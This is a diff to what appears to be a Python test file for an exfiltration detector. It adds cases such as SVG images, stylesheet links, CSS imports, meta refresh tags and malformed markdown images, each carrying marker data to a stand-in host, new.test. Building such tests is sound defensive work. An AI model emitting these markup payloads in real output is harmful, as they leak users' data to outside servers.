@@ -34,6 +34,11 @@ CARRYING = {
     "without scheme": "![a](//new.test/c?d=99887766)",
     "fragment": "![a](https://new.test/#99887766)",
     "one letter an image": " ".join(f"![](https://new.test/{c})" for c in "99887766wonderly"),
+    "SVG image": "<svg><image href='https://new.test/p.png?d=wonderly-99887766'/></svg>",
+    "style sheet": "<link rel=stylesheet href=https://new.test/?d=wonderly-99887766>",
+    "import": "@import 'https://new.test/?d=wonderly-99887766'",
+    "refresh": "<meta http-equiv=refresh content='0; url=https://new.test/?d=wonderly-99887766'>",
+    "mixed slashes": "![a](https:/\\new.test/?d=wonderly-99887766)",
     "zero-width in the host": "![a](https://new\u200b.test/?d=99887766)",
 }
 HARMLESS = {
